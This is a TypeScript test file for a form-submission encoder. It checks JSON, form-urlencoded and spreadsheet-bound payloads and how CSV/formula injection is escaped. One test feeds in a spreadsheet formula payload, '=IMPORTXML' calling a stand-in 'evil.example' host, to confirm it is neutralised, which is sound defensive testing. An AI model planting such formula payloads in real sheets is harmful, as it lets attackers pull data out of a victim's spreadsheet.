import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { buildSubmission } from '../../../src/delivery/index.ts';
import { encode, escapeCell } from '../../../src/delivery/encoders.ts';
import { flatten } from '../../../src/delivery/flatten.ts';
import { PRESET_TABLE } from '../../../src/delivery/presets.ts';
import { serialise } from '../../../src/delivery/serialise.ts';
import { FORM, submissionInput, submissionWith } from './fixtures.ts';
import { withOldLibraries } from './old-libraries.ts';

const submission = buildSubmission(submissionInput());
const written = fc.string({ unit: 'binary', maxLength: 50 });
const submissions = fc.tuple(written, written).map(([note, name]) =>
  submissionWith([
    ['note', note],
    ['constructor', name],
  ]),
);

test('json is the nested submission', () => {
  expect(encode(submission, FORM, PRESET_TABLE.json)).toEqual({
    body: serialise(submission),
    contentType: 'application/json',
  });
});

test('text has the same bytes as json, under a type that needs no preflight', () => {
  expect(encode(submission, FORM, PRESET_TABLE.text)).toEqual({
    body: serialise(submission),
    contentType: 'text/plain;charset=UTF-8',
  });
});

test('form is the flat submission, percent-encoded as URLSearchParams does', () => {
  fc.assert(
    fc.property(submissions, (one) => {
      const { body, contentType } = encode(one, FORM, PRESET_TABLE.form);
      const entries = flatten(one, FORM).map(([key, value]): [string, string] => [key, value]);
      expect(contentType).toBe('application/x-www-form-urlencoded;charset=UTF-8');
      expect(body).toBe(new URLSearchParams(entries).toString());
      expect([...new URLSearchParams(body)]).toEqual(entries);
    }),
  );
});

test('what a form holds is percent-encoded as HTML forms are: the URL standard, section 5.2', () => {
  const { body } = encode(submissionWith([['note', 'a b*-._~é\n&=+%']]), FORM, PRESET_TABLE.form);
  expect(body).toContain('&note=a+b*-._%7E%C3%A9%0A%26%3D%2B%25&');
});

test('json, decoded, is what was encoded', () => {
  fc.assert(
    fc.property(submissions, (one) => {
      const { body } = encode(one, FORM, PRESET_TABLE.json);
      expect(JSON.parse(body)).toEqual(JSON.parse(JSON.stringify(one)));
    }),
  );
});

test('a body is the same in UTF-8 as in script: nothing in it cannot be encoded', () => {
  fc.assert(
    fc.property(submissions, (one) => {
      for (const preset of Object.values(PRESET_TABLE)) {
        const { body } = encode(one, FORM, preset);
        expect(Buffer.from(body).toString('utf8')).toBe(body);
      }
    }),
  );
});

test('google-sheets gets the flat submission as JSON text, a cell for each key', () => {
  const { body, contentType } = encode(submission, FORM, PRESET_TABLE['google-sheets']);
  expect(contentType).toBe('text/plain;charset=UTF-8');
  expect(Object.entries(JSON.parse(body))).toEqual(flatten(submission, FORM));
});

test.each(['google-sheets', 'zapier', 'make'] as const)(
  '%s: what a visitor writes cannot become a formula in a sheet, and a phone number stays whole',
  (name) => {
    const attack = submissionWith([
      ['note', '=IMPORTXML("https://evil.example")'],
      ['name', '@SUM(A1)'],
      ['journey', '-1+2'],
      ['phone', '+44 20 7946 0958'],
    ]);
    const { body } = encode(attack, FORM, PRESET_TABLE[name]);
    const cells = body.startsWith('{')
      ? JSON.parse(body)
      : Object.fromEntries(new URLSearchParams(body));
    expect(cells).toMatchObject({
      note: `'=IMPORTXML("https://evil.example")`,
      name: "'@SUM(A1)",
      journey: "'-1+2",
      phone: '+442079460958',
      phone_raw: "'+44 20 7946 0958",
    });
    for (const value of Object.values<string>(cells))
      expect(value).toMatch(/^([^=+\-@\t\r]|\+\d|$)/);
  },
);

test.each(['json', 'text', 'form', 'n8n'] as const)(
  '%s gets what was written, unescaped',
  (name) => {
    const { body } = encode(submissionWith([['note', '-1+2']]), FORM, PRESET_TABLE[name]);
    expect(body).toMatch(/"text":"-1\+2"|&note=-1%2B2&/);
  },
);

test('a cell is escaped only where a sheet would read a formula', () => {
  for (const value of [
    '=1',
    '+1',
    '-1',
    '@a',
    '\t=1',
    '\r=1',
    '+1 (214) 555',
    '+1234567890123456',
  ]) {
    expect(escapeCell(value)).toBe(`'${value}`);
  }
  for (const value of ['', 'a=1', '1-2', 'a@b.example', '+1234567', '+123456789012345', "'=1"]) {
    expect(escapeCell(value)).toBe(value);
  }
});

test('old libraries on the page change no byte of any encoding', () => {
  const presets = Object.values(PRESET_TABLE);
  const clean = presets.map((preset) => encode(submission, FORM, preset));
  expect(withOldLibraries(() => presets.map((preset) => encode(submission, FORM, preset)))).toEqual(
    clean,
  );
});
